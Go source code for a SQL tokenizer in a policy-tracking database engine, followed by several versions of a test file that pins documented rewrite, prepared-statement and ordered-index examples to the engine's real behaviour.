// Execution goes through a query-planning layer: a plan cache keyed on
// the parameterized token stream (plan.go) skips re-parsing repeated
// query shapes, and ordered indexes declared with CREATE INDEX
// (index.go) serve `col = literal` point lookups, range and
// LIKE-prefix scans, and ORDER BY traversals without scanning or
// post-sorting.
// Prepared statements (stmt.go) compile `?`-placeholder text once and
// bind argument values — tracked or plain — into the cached template
// per execution, at zero tokenizes and zero parses per operation; the
// resinsql package (top of the repo) adapts that API to database/sql.
// OpenDB(rt, path) adds durability: a write-ahead log of the rewritten
// statements (wal.go, recover.go, snapshot.go), so tables and their
// shadow policy columns survive process restarts. The supported
// dialect, the shadow policy-column encoding, the plan cache and index
// semantics, the binding rules, and the WAL format are specified in
// docs/SQL.md.
package sqldb

import (
	"fmt"
	"strings"
	"sync/atomic"

	"resin/internal/core"
)

// lexCalls counts tokenizer invocations (Lex and LexAutoSanitize). The
// prepared-statement contract is that repeated executions never re-lex
// the query text; tests and benchmarks observe the counter through
// TokenizeCount to pin that down, alongside ParseCount for the parser.
var lexCalls atomic.Uint64

// TokenizeCount returns the number of tokenizer invocations so far in
// this process (both the standard and the auto-sanitizing lexer).
func TokenizeCount() uint64 { return lexCalls.Load() }

// TokenType classifies SQL tokens.
type TokenType int

// Token types.
const (
	TokEOF TokenType = iota
	TokKeyword
	TokIdent
	TokString
	TokNumber
	TokOp
	TokComma
	TokLParen
	TokRParen
	TokStar
	TokSemi
	// TokParam is a literal slot in a parameterized plan-template token
	// stream (see plan.go); the lexers never produce it from query text.
	TokParam
	// TokPlaceholder is a binding placeholder in query text (the
	// prepared-statement API): `?`, or the named form `:name`. It marks a
	// slot that an argument of Stmt.Query / Stmt.Exec (or the variadic
	// DB.Query form) is bound into as a value, never as text. ParamIdx
	// carries the placeholder's zero-based binding ordinal: text order
	// for `?`, distinct-name first-occurrence order for `:name` (every
	// repetition of one name shares one ordinal, so one argument feeds
	// them all). A statement uses one style; mixing is a lex error.
	TokPlaceholder
)

func (t TokenType) String() string {
	switch t {
	case TokEOF:
		return "EOF"
	case TokKeyword:
		return "keyword"
	case TokIdent:
		return "identifier"
	case TokString:
		return "string"
	case TokNumber:
		return "number"
	case TokOp:
		return "operator"
	case TokComma:
		return "comma"
	case TokLParen:
		return "("
	case TokRParen:
		return ")"
	case TokStar:
		return "*"
	case TokSemi:
		return ";"
	case TokParam:
		return "parameter"
	case TokPlaceholder:
		return "placeholder"
	default:
		return "unknown"
	}
}

// Structural reports whether tokens of this type form the query's
// structure (keywords, identifiers, operators, punctuation) as opposed to
// its values (string and number literals). The strategy-2 injection check
// rejects structural tokens containing untrusted characters. A `?`
// placeholder counts as structure: it introduces a binding slot and so
// reshapes the statement, which untrusted bytes must never do.
func (t TokenType) Structural() bool {
	switch t {
	case TokKeyword, TokIdent, TokOp, TokComma, TokLParen, TokRParen, TokStar, TokSemi, TokPlaceholder:
		return true
	}
	return false
}

// Token is one lexed SQL token.
type Token struct {
	Type TokenType
	// Text is the raw source text of the token (keywords keep their
	// original case; use Keyword for normalized comparison).
	Text string
	// Value is the decoded literal value for TokString tokens, carrying
	// the per-character policies of the source; for other token types it
	// is the source slice.
	Value core.String
	// Start and End delimit the token's byte range in the query source.
	Start, End int
	// ParamIdx is the literal slot index for TokParam tokens and the
	// binding ordinal for TokPlaceholder tokens.
	ParamIdx int
	// Name is the placeholder name for the `:name` form ("" for `?`).
	Name string
}

// Keyword returns the upper-cased text for keyword comparison.
func (t Token) Keyword() string { return strings.ToUpper(t.Text) }

// keywords of the dialect.
var keywords = map[string]bool{
	"SELECT": true, "FROM": true, "WHERE": true,
	"INSERT": true, "INTO": true, "VALUES": true,
	"UPDATE": true, "SET": true, "DELETE": true,
	"CREATE": true, "TABLE": true, "DROP": true,
	"ORDER": true, "BY": true, "ASC": true, "DESC": true,
	"LIMIT": true, "AND": true, "OR": true, "NOT": true,
	"NULL": true, "LIKE": true, "TEXT": true,
	"INT": true, "INTEGER": true,
	"INDEX": true, "ON": true,
	"JOIN": true, "INNER": true, "LEFT": true, "GROUP": true,
}

// LexError is a tokenization error with its byte offset.
type LexError struct {
	Offset int
	Msg    string
}

func (e *LexError) Error() string {
	return fmt.Sprintf("sqldb: lex error at offset %d: %s", e.Offset, e.Msg)
}

// Lex tokenizes a tracked SQL query. String literals use single quotes
// with ” and \\ escapes (matching sanitize.SQLQuote); -- starts a line
// comment. The returned tokens carry source ranges into q and decoded
// string values carry the source characters' policies.
func Lex(q core.String) ([]Token, error) {
	lexCalls.Add(1)
	src := q.Raw()
	var toks []Token
	i := 0
	for {
		tok, next, err := scanToken(q, src, i, len(src))
		if err != nil {
			return nil, err
		}
		toks = append(toks, tok)
		if tok.Type == TokEOF {
			if err := numberPlaceholders(toks); err != nil {
				return nil, err
			}
			return toks, nil
		}
		i = next
	}
}

// numberPlaceholders stamps each TokPlaceholder with its zero-based
// binding ordinal — the index into the bound-argument list that
// placeholder binds. Positional `?` placeholders number in text order;
// named `:name` placeholders number by distinct name in first-occurrence
// order, every repetition of a name sharing its ordinal. The two styles
// cannot mix in one statement: positional binding is order-based and
// named binding is identity-based, and a statement using both has no
// unambiguous argument list.
func numberPlaceholders(toks []Token) error {
	ord := 0
	named := map[string]int{}
	positionalAt, namedAt := -1, -1
	for i := range toks {
		if toks[i].Type != TokPlaceholder {
			continue
		}
		if toks[i].Name == "" {
			positionalAt = toks[i].Start
			toks[i].ParamIdx = ord
			ord++
			continue
		}
		namedAt = toks[i].Start
		if n, ok := named[toks[i].Name]; ok {
			toks[i].ParamIdx = n
			continue
		}
		named[toks[i].Name] = ord
		toks[i].ParamIdx = ord
		ord++
	}
	if positionalAt >= 0 && namedAt >= 0 {
		off := namedAt
		if positionalAt > off {
			off = positionalAt
		}
		return &LexError{Offset: off, Msg: "cannot mix ? and :name placeholders in one statement"}
	}
	return nil
}

// scanToken skips whitespace and comments from offset i, then lexes one
// token, treating limit as the end of input (the auto-sanitizing
// tokenizer clips trusted scanning at the next untrusted byte). It
// returns a TokEOF token when only trivia remains before limit.
func scanToken(q core.String, src string, i, limit int) (Token, int, error) {
	for i < limit {
		c := src[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			i++
		case c == '-' && i+1 < limit && src[i+1] == '-':
			for i < limit && src[i] != '\n' {
				i++
			}
		case c == '\'':
			return lexString(q, src, i)
		case c >= '0' && c <= '9':
			j := i + 1
			for j < limit && src[j] >= '0' && src[j] <= '9' {
				j++
			}
			return Token{Type: TokNumber, Text: src[i:j], Value: q.Slice(i, j), Start: i, End: j}, j, nil
		case isIdentStart(c):
			j := i + 1
			for j < limit && isIdentPart(src[j]) {
				j++
			}
			text := src[i:j]
			typ := TokIdent
			if keywords[strings.ToUpper(text)] {
				typ = TokKeyword
			}
			return Token{Type: typ, Text: text, Value: q.Slice(i, j), Start: i, End: j}, j, nil
		case c == ',':
			return Token{Type: TokComma, Text: ",", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == '(':
			return Token{Type: TokLParen, Text: "(", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == ')':
			return Token{Type: TokRParen, Text: ")", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == '*':
			return Token{Type: TokStar, Text: "*", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == ';':
			return Token{Type: TokSemi, Text: ";", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == '?':
			return Token{Type: TokPlaceholder, Text: "?", Value: q.Slice(i, i+1), Start: i, End: i + 1}, i + 1, nil
		case c == ':':
			// Named binding placeholder `:name` (letters, digits,
			// underscore; no dots — a name is not a column path).
			j := i + 1
			for j < limit && (isIdentStart(src[j]) || (src[j] >= '0' && src[j] <= '9')) {
				j++
			}
			if j == i+1 || !isIdentStart(src[i+1]) {
				return Token{}, 0, &LexError{Offset: i, Msg: "expected placeholder name after ':'"}
			}
			return Token{Type: TokPlaceholder, Text: src[i:j], Name: src[i+1 : j], Value: q.Slice(i, j), Start: i, End: j}, j, nil
		case c == '=' || c == '<' || c == '>' || c == '!':
			j := i + 1
			if j < limit && (src[j] == '=' || (c == '<' && src[j] == '>')) {
				j++
			}
			op := src[i:j]
			switch op {
			case "=", "<", ">", "<=", ">=", "<>", "!=":
				return Token{Type: TokOp, Text: op, Value: q.Slice(i, j), Start: i, End: j}, j, nil
			default:
				return Token{}, 0, &LexError{Offset: i, Msg: fmt.Sprintf("bad operator %q", op)}
			}
		case c == '-' || c == '+':
			// Signed number literal.
			j := i + 1
			if j >= limit || src[j] < '0' || src[j] > '9' {
				return Token{}, 0, &LexError{Offset: i, Msg: fmt.Sprintf("unexpected %q", string(c))}
			}
			for j < limit && src[j] >= '0' && src[j] <= '9' {
				j++
			}
			return Token{Type: TokNumber, Text: src[i:j], Value: q.Slice(i, j), Start: i, End: j}, j, nil
		default:
			return Token{}, 0, &LexError{Offset: i, Msg: fmt.Sprintf("unexpected byte %q", string(c))}
		}
	}
	return Token{Type: TokEOF, Start: i, End: i}, i, nil
}

// lexString decodes a single-quoted literal starting at src[i] == '\”,
// propagating the source characters' policies into the decoded value.
func lexString(q core.String, src string, i int) (Token, int, error) {
	start := i
	i++ // opening quote
	var val core.Builder
	for i < len(src) {
		c := src[i]
		switch c {
		case '\'':
			if i+1 < len(src) && src[i+1] == '\'' {
				_, ps := q.ByteAt(i)
				val.AppendBytePolicies('\'', ps)
				i += 2
				continue
			}
			// Closing quote.
			return Token{Type: TokString, Text: src[start : i+1], Value: val.String(), Start: start, End: i + 1}, i + 1, nil
		case '\\':
			if i+1 >= len(src) {
				return Token{}, 0, &LexError{Offset: i, Msg: "dangling backslash in string"}
			}
			_, ps := q.ByteAt(i + 1)
			val.AppendBytePolicies(src[i+1], ps)
			i += 2
		default:
			_, ps := q.ByteAt(i)
			val.AppendBytePolicies(c, ps)
			i++
		}
	}
	return Token{}, 0, &LexError{Offset: start, Msg: "unterminated string literal"}
}

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentPart(c byte) bool {
	return isIdentStart(c) || (c >= '0' && c <= '9') || c == '.'
}
