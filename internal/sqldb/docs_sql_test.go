package sqldb

import (
	"os"
	"strings"
	"testing"

	"resin/internal/core"
)

// docPasswordPolicy is the policy class of the worked Figure 4 example
// in docs/SQL.md; the registered name and the single JSON data field
// appear verbatim in the doc's expected annotation.
type docPasswordPolicy struct {
	Email string `json:"email"`
}

func (p *docPasswordPolicy) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("docs.PasswordPolicy", &docPasswordPolicy{})
}

// figure4Pairs extracts the pinned (issued, rewritten) statement pairs
// from the figure4 block of docs/SQL.md.
func figure4Pairs(t *testing.T) [][2]string {
	t.Helper()
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- figure4:begin -->")
	end := strings.Index(text, "<!-- figure4:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its figure4:begin/end markers")
	}
	var pairs [][2]string
	var cur [2]string
	state := 0 // 0 idle, 1 expect issued, 2 expect rewritten
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "-- application issues:":
			state = 1
		case line == "-- the filter hands the engine:":
			state = 2
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--"):
		default:
			switch state {
			case 1:
				cur[0] = line
			case 2:
				cur[1] = line
				pairs = append(pairs, cur)
				cur = [2]string{}
			}
			state = 0
		}
	}
	if len(pairs) != 3 {
		t.Fatalf("figure4 example must pin CREATE, INSERT, and SELECT; got %d pairs", len(pairs))
	}
	return pairs
}

// TestFigure4ExampleRoundTrips pins docs/SQL.md's worked Figure 4
// example to the real rewrite: each documented application query,
// tracked as the doc describes (the password literal carries
// docs.PasswordPolicy), must rewrite to exactly the documented
// statement, and every documented rewritten form must round-trip
// through the parser back to itself.
func TestFigure4ExampleRoundTrips(t *testing.T) {
	pairs := figure4Pairs(t)
	engine := NewEngine()
	pol := &docPasswordPolicy{Email: "u@example.org"}

	for _, pair := range pairs {
		issued, want := pair[0], pair[1]

		// Track the issued query as the doc's prose describes: the
		// password literal's bytes carry the policy, the rest is
		// untainted.
		q := core.NewString(issued)
		if i := strings.Index(issued, "s3cretpw"); i >= 0 && strings.HasPrefix(issued, "INSERT") {
			q = core.Concat(
				core.NewString(issued[:i]),
				core.NewStringPolicy("s3cretpw", pol),
				core.NewString(issued[i+len("s3cretpw"):]),
			)
		}
		stmt, err := Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", issued, err)
		}
		rewritten, err := RewriteWithPolicies(engine, stmt)
		if err != nil {
			t.Fatalf("rewrite %q: %v", issued, err)
		}
		if got := rewritten.SQL(); got != want {
			t.Errorf("rewrite of\n  %s\nrenders\n  %s\nbut docs/SQL.md pins\n  %s", issued, got, want)
		}

		// The documented rewritten form must round-trip: parse → SQL()
		// reproduces it byte for byte.
		back, err := Parse(core.NewString(want))
		if err != nil {
			t.Fatalf("documented rewrite %q does not parse: %v", want, err)
		}
		if got := back.SQL(); got != want {
			t.Errorf("documented rewrite does not round-trip:\n  doc  %s\n  got  %s", want, got)
		}

		// Execute so later pairs see the schema (and the example is
		// live, not hypothetical).
		if _, _, err := engine.ExecuteRaw(rewritten); err != nil {
			t.Fatalf("execute rewritten %q: %v", rewritten.SQL(), err)
		}
	}
}

// TestSQLDocCoversEveryStatementForm fails when a statement the parser
// accepts goes undocumented in docs/SQL.md's grammar section.
func TestSQLDocCoversEveryStatementForm(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	for _, form := range []string{
		"CREATE TABLE", "DROP TABLE", "CREATE INDEX", "DROP INDEX",
		"INSERT INTO", "SELECT", "UPDATE", "DELETE FROM",
		"ORDER BY", "LIMIT", "WHERE", "LIKE", "NULL",
	} {
		if !strings.Contains(text, form) {
			t.Errorf("docs/SQL.md does not document %s", form)
		}
	}
}
