package sqldb

import (
	"os"
	"strings"
	"testing"

	"resin/internal/core"
)

// docPasswordPolicy is the policy class of the worked Figure 4 example
// in docs/SQL.md; the registered name and the single JSON data field
// appear verbatim in the doc's expected annotation.
type docPasswordPolicy struct {
	Email string `json:"email"`
}

func (p *docPasswordPolicy) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("docs.PasswordPolicy", &docPasswordPolicy{})
}

// figure4Pairs extracts the pinned (issued, rewritten) statement pairs
// from the figure4 block of docs/SQL.md.
func figure4Pairs(t *testing.T) [][2]string {
	t.Helper()
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- figure4:begin -->")
	end := strings.Index(text, "<!-- figure4:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its figure4:begin/end markers")
	}
	var pairs [][2]string
	var cur [2]string
	state := 0 // 0 idle, 1 expect issued, 2 expect rewritten
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "-- application issues:":
			state = 1
		case line == "-- the filter hands the engine:":
			state = 2
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--"):
		default:
			switch state {
			case 1:
				cur[0] = line
			case 2:
				cur[1] = line
				pairs = append(pairs, cur)
				cur = [2]string{}
			}
			state = 0
		}
	}
	if len(pairs) != 3 {
		t.Fatalf("figure4 example must pin CREATE, INSERT, and SELECT; got %d pairs", len(pairs))
	}
	return pairs
}

// TestFigure4ExampleRoundTrips pins docs/SQL.md's worked Figure 4
// example to the real rewrite: each documented application query,
// tracked as the doc describes (the password literal carries
// docs.PasswordPolicy), must rewrite to exactly the documented
// statement, and every documented rewritten form must round-trip
// through the parser back to itself.
func TestFigure4ExampleRoundTrips(t *testing.T) {
	pairs := figure4Pairs(t)
	engine := NewEngine()
	pol := &docPasswordPolicy{Email: "u@example.org"}

	for _, pair := range pairs {
		issued, want := pair[0], pair[1]

		// Track the issued query as the doc's prose describes: the
		// password literal's bytes carry the policy, the rest is
		// untainted.
		q := core.NewString(issued)
		if i := strings.Index(issued, "s3cretpw"); i >= 0 && strings.HasPrefix(issued, "INSERT") {
			q = core.Concat(
				core.NewString(issued[:i]),
				core.NewStringPolicy("s3cretpw", pol),
				core.NewString(issued[i+len("s3cretpw"):]),
			)
		}
		stmt, err := Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", issued, err)
		}
		rewritten, err := RewriteWithPolicies(engine, stmt)
		if err != nil {
			t.Fatalf("rewrite %q: %v", issued, err)
		}
		if got := rewritten.SQL(); got != want {
			t.Errorf("rewrite of\n  %s\nrenders\n  %s\nbut docs/SQL.md pins\n  %s", issued, got, want)
		}

		// The documented rewritten form must round-trip: parse → SQL()
		// reproduces it byte for byte.
		back, err := Parse(core.NewString(want))
		if err != nil {
			t.Fatalf("documented rewrite %q does not parse: %v", want, err)
		}
		if got := back.SQL(); got != want {
			t.Errorf("documented rewrite does not round-trip:\n  doc  %s\n  got  %s", want, got)
		}

		// Execute so later pairs see the schema (and the example is
		// live, not hypothetical).
		if _, _, err := engine.ExecuteRaw(rewritten); err != nil {
			t.Fatalf("execute rewritten %q: %v", rewritten.SQL(), err)
		}
	}
}

// TestSQLDocCoversEveryStatementForm fails when a statement the parser
// accepts goes undocumented in docs/SQL.md's grammar section.
func TestSQLDocCoversEveryStatementForm(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	for _, form := range []string{
		"CREATE TABLE", "DROP TABLE", "CREATE INDEX", "DROP INDEX",
		"INSERT INTO", "SELECT", "UPDATE", "DELETE FROM",
		"ORDER BY", "LIMIT", "WHERE", "LIKE", "NULL",
		// The binding surface of §6 and the driver facade of §7.
		"placeholder", "Prepare", "Stmt.Query", "Stmt.Exec",
		"NumArgs", "resinsql", "sql.Register",
	} {
		if !strings.Contains(text, form) {
			t.Errorf("docs/SQL.md does not document %s", form)
		}
	}
}

// TestFigure4PreparedExampleRoundTrips pins docs/SQL.md §6's prepared
// worked example: parsing the documented prepared text, binding the
// documented arguments, and running the Figure 4 rewrite must produce
// exactly the documented engine-side statement — byte for byte the
// same INSERT the spliced example produces, proving bound values and
// spliced literals persist policies identically.
func TestFigure4PreparedExampleRoundTrips(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- figure4-prepared:begin -->")
	end := strings.Index(text, "<!-- figure4-prepared:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its figure4-prepared:begin/end markers")
	}
	var prepared, handed string
	state := 0
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "-- application prepares:":
			state = 1
		case line == "-- the filter hands the engine:":
			state = 2
		case strings.HasPrefix(line, "--"), line == "", strings.HasPrefix(line, "```"), strings.HasPrefix(line, "<!--"):
		default:
			switch state {
			case 1:
				prepared = line
			case 2:
				handed = line
			}
			state = 0
		}
	}
	if prepared == "" || handed == "" {
		t.Fatal("figure4-prepared block must pin a prepared statement and its rewrite")
	}

	// Build the engine state the example assumes (the §3 CREATE).
	engine := NewEngine()
	create, err := Parse(core.NewString("CREATE TABLE users (email TEXT, password TEXT)"))
	if err != nil {
		t.Fatal(err)
	}
	rewrittenCreate, err := RewriteWithPolicies(engine, create)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := engine.ExecuteRaw(rewrittenCreate); err != nil {
		t.Fatal(err)
	}

	// Parse the documented prepared text and bind the documented
	// arguments: a plain email, a tracked password.
	stmt, err := Parse(core.NewString(prepared))
	if err != nil {
		t.Fatalf("documented prepared text does not parse: %v", err)
	}
	pol := &docPasswordPolicy{Email: "u@example.org"}
	bound, err := argExprs([]any{"u@example.org", core.NewStringPolicy("s3cretpw", pol)})
	if err != nil {
		t.Fatal(err)
	}
	stmt, err = bindStatement(stmt, nil, bound)
	if err != nil {
		t.Fatal(err)
	}
	rewritten, err := RewriteWithPolicies(engine, stmt)
	if err != nil {
		t.Fatal(err)
	}
	if got := rewritten.SQL(); got != handed {
		t.Errorf("bound rewrite renders\n  %s\nbut docs/SQL.md pins\n  %s", got, handed)
	}
	if _, _, err := engine.ExecuteRaw(rewritten); err != nil {
		t.Fatalf("execute rewritten: %v", err)
	}
}

// TestOrderedIndexDocExamples pins docs/SQL.md §4's worked examples:
// the block's setup statements build the documented table, each
// documented query runs against the indexed engine AND a forced-scan
// twin (no CREATE INDEX), and both must produce exactly the documented
// first-column values in the documented order — the doc's range, LIKE,
// ORDER BY pushdown, NULL-placement, and coercion-fallback claims all
// stay live.
func TestOrderedIndexDocExamples(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- ordered-index:begin -->")
	end := strings.Index(text, "<!-- ordered-index:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its ordered-index:begin/end markers")
	}

	indexed, scan := NewEngine(), NewEngine()
	exec := func(e *Engine, q string) {
		t.Helper()
		stmt, err := Parse(core.NewString(q))
		if err != nil {
			t.Fatalf("parse %q: %v", q, err)
		}
		if _, _, err := e.ExecuteRaw(stmt); err != nil {
			t.Fatalf("execute %q: %v", q, err)
		}
	}

	var query string
	checked := 0
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(line, "-- SELECT"):
			query = strings.TrimPrefix(line, "-- ")
		case strings.HasPrefix(line, "--   -> "):
			if query == "" {
				t.Fatalf("expected values %q without a preceding query", line)
			}
			var want []string
			for _, v := range strings.Split(strings.TrimPrefix(line, "--   -> "), ",") {
				want = append(want, strings.TrimSpace(v))
			}
			for name, e := range map[string]*Engine{"indexed": indexed, "scan": scan} {
				stmt, err := Parse(core.NewString(query))
				if err != nil {
					t.Fatalf("parse %q: %v", query, err)
				}
				res, _, err := e.ExecuteRaw(stmt)
				if err != nil {
					t.Fatalf("%s: execute %q: %v", name, query, err)
				}
				var got []string
				for _, row := range res.rows {
					got = append(got, row[0].String())
				}
				if strings.Join(got, ", ") != strings.Join(want, ", ") {
					t.Errorf("%s: %s\n  doc pins %v\n  got      %v", name, query, want, got)
				}
			}
			query = ""
			checked++
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--") || strings.HasPrefix(line, "--"):
		default: // setup statement
			exec(indexed, line)
			if !strings.HasPrefix(line, "CREATE INDEX") {
				exec(scan, line)
			}
		}
	}
	if checked < 5 {
		t.Fatalf("ordered-index block pins only %d queries; the doc examples shrank", checked)
	}
}
