package sqldb

import (
	"errors"
	"os"
	"strings"
	"testing"

	"resin/internal/core"
)

// docPasswordPolicy is the policy class of the worked Figure 4 example
// in docs/SQL.md; the registered name and the single JSON data field
// appear verbatim in the doc's expected annotation.
type docPasswordPolicy struct {
	Email string `json:"email"`
}

func (p *docPasswordPolicy) ExportCheck(ctx *core.Context) error { return nil }

// docReviewPolicy taints every quoted literal of the §10 worked
// examples, so the block's † markers are checked against real
// annotation round-trips, not hand-set flags.
type docReviewPolicy struct{}

func (p *docReviewPolicy) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("docs.PasswordPolicy", &docPasswordPolicy{})
	core.RegisterPolicyClass("docs.ReviewPolicy", &docReviewPolicy{})
}

// figure4Pairs extracts the pinned (issued, rewritten) statement pairs
// from the figure4 block of docs/SQL.md.
func figure4Pairs(t *testing.T) [][2]string {
	t.Helper()
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- figure4:begin -->")
	end := strings.Index(text, "<!-- figure4:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its figure4:begin/end markers")
	}
	var pairs [][2]string
	var cur [2]string
	state := 0 // 0 idle, 1 expect issued, 2 expect rewritten
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "-- application issues:":
			state = 1
		case line == "-- the filter hands the engine:":
			state = 2
		case line == "" || strings.HasPrefix(line, "```") || strings.HasPrefix(line, "<!--"):
		default:
			switch state {
			case 1:
				cur[0] = line
			case 2:
				cur[1] = line
				pairs = append(pairs, cur)
				cur = [2]string{}
			}
			state = 0
		}
	}
	if len(pairs) != 3 {
		t.Fatalf("figure4 example must pin CREATE, INSERT, and SELECT; got %d pairs", len(pairs))
	}
	return pairs
}

// TestFigure4ExampleRoundTrips pins docs/SQL.md's worked Figure 4
// example to the real rewrite: each documented application query,
// tracked as the doc describes (the password literal carries
// docs.PasswordPolicy), must rewrite to exactly the documented
// statement, and every documented rewritten form must round-trip
// through the parser back to itself.
func TestFigure4ExampleRoundTrips(t *testing.T) {
	pairs := figure4Pairs(t)
	engine := NewEngine()
	pol := &docPasswordPolicy{Email: "u@example.org"}

	for _, pair := range pairs {
		issued, want := pair[0], pair[1]

		// Track the issued query as the doc's prose describes: the
		// password literal's bytes carry the policy, the rest is
		// untainted.
		q := core.NewString(issued)
		if i := strings.Index(issued, "s3cretpw"); i >= 0 && strings.HasPrefix(issued, "INSERT") {
			q = core.Concat(
				core.NewString(issued[:i]),
				core.NewStringPolicy("s3cretpw", pol),
				core.NewString(issued[i+len("s3cretpw"):]),
			)
		}
		stmt, err := Parse(q)
		if err != nil {
			t.Fatalf("parse %q: %v", issued, err)
		}
		rewritten, err := RewriteWithPolicies(engine, stmt)
		if err != nil {
			t.Fatalf("rewrite %q: %v", issued, err)
		}
		if got := rewritten.SQL(); got != want {
			t.Errorf("rewrite of\n  %s\nrenders\n  %s\nbut docs/SQL.md pins\n  %s", issued, got, want)
		}

		// The documented rewritten form must round-trip: parse → SQL()
		// reproduces it byte for byte.
		back, err := Parse(core.NewString(want))
		if err != nil {
			t.Fatalf("documented rewrite %q does not parse: %v", want, err)
		}
		if got := back.SQL(); got != want {
			t.Errorf("documented rewrite does not round-trip:\n  doc  %s\n  got  %s", want, got)
		}

		// Execute so later pairs see the schema (and the example is
		// live, not hypothetical).
		if _, _, err := engine.ExecuteRaw(rewritten); err != nil {
			t.Fatalf("execute rewritten %q: %v", rewritten.SQL(), err)
		}
	}
}

// TestSQLDocCoversEveryStatementForm fails when a statement the parser
// accepts goes undocumented in docs/SQL.md's grammar section.
func TestSQLDocCoversEveryStatementForm(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	for _, form := range []string{
		"CREATE TABLE", "DROP TABLE", "CREATE INDEX", "DROP INDEX",
		"INSERT INTO", "SELECT", "UPDATE", "DELETE FROM",
		"ORDER BY", "LIMIT", "WHERE", "LIKE", "NULL",
		// The multi-table surface of §10.
		"INNER JOIN", "LEFT JOIN", "GROUP BY",
		"COUNT(*)", "COUNT(col)", "SUM(col)", "MIN(col)", "MAX(col)", "PUNION(col)",
		// The binding surface of §6 and the driver facade of §7.
		"placeholder", "Prepare", "Stmt.Query", "Stmt.Exec",
		"NumArgs", "resinsql", "sql.Register",
	} {
		if !strings.Contains(text, form) {
			t.Errorf("docs/SQL.md does not document %s", form)
		}
	}
}

// TestFigure4PreparedExampleRoundTrips pins docs/SQL.md §6's prepared
// worked example: parsing the documented prepared text, binding the
// documented arguments, and running the Figure 4 rewrite must produce
// exactly the documented engine-side statement — byte for byte the
// same INSERT the spliced example produces, proving bound values and
// spliced literals persist policies identically.
func TestFigure4PreparedExampleRoundTrips(t *testing.T) {
	data, err := os.ReadFile("../../docs/SQL.md")
	if err != nil {
		t.Fatalf("docs/SQL.md must exist: %v", err)
	}
	text := string(data)
	start := strings.Index(text, "<!-- figure4-prepared:begin -->")
	end := strings.Index(text, "<!-- figure4-prepared:end -->")
	if start < 0 || end < 0 || end < start {
		t.Fatal("docs/SQL.md lost its figure4-prepared:begin/end markers")
	}
	var prepared, handed string
	state := 0
	for _, line := range strings.Split(text[start:end], "\n") {
		line = strings.TrimSpace(line)
		switch {
		case line == "-- application prepares:":
			state = 1
		case line == "-- the filter hands the engine:":
			state = 2
		case strings.HasPrefix(line, "--"), line == "", strings.HasPrefix(line, "```"), strings.HasPrefix(line, "<!--"):
		default:
			switch state {
			case 1:
				prepared = line
			case 2:
				handed = line
			}
			state = 0
		}
	}
	if prepared == "" || handed == "" {
		t.Fatal("figure4-prepared block must pin a prepared statement and its rewrite")
	}

	// Build the engine state the example assumes (the §3 CREATE).
	engine := NewEngine()
	create, err := Parse(core.NewString("CREATE TABLE users (email TEXT, password TEXT)"))
	if err != nil {
		t.Fatal(err)
	}
	rewrittenCreate, err := RewriteWithPolicies(engine, create)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := engine.ExecuteRaw(rewrittenCreate); err != nil {
		t.Fatal(err)
	}

	// Parse the documented prepared text and bind the documented
	// arguments: a plain email, a tracked password.
	stmt, err := Parse(core.NewString(prepared))
	if err != nil {
		t.Fatalf("documented prepared text does not parse: %v", err)
	}
	pol := &docPasswordPolicy{Email: "u@example.org"}
